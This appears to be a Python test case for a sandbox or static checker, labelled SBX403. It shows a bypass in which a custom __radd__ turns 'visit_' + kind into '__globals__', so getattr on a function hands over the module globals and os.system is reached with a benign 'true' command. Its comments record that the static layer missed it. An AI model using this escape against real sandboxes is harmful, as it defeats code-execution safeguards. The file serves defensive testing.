# family: prefix_names
# reaches: process
# layer: static
# static: missed
# SBX403 admits getattr(own, "visit_" + kind) on the program's own objects: a name that starts
# with a letter names none of their private or dunder attributes. Route: "visit_" + kind is
# kind.__radd__("visit_") when kind is not a str (str.__add__ gives way), and the program's
# Kind returns "__globals__" from it; getattr(render, "__globals__") hands over the module's
# globals, with os in them.
import os


class Kind:
    """A node kind; joins onto a prefix to name its handler."""

    def __init__(self, name):
        self.name = name

    def __radd__(self, prefix):
        return "__" + self.name + "__"


def render(row):
    return ", ".join(str(v) for v in row)


class Visitor:
    def visit_title(self):
        return "title"

    def handler(self, kind):
        return getattr(render, "visit_" + kind, None)


scope = Visitor().handler(Kind("globals"))
scope["os"].system("true")
print(os.getcwd())
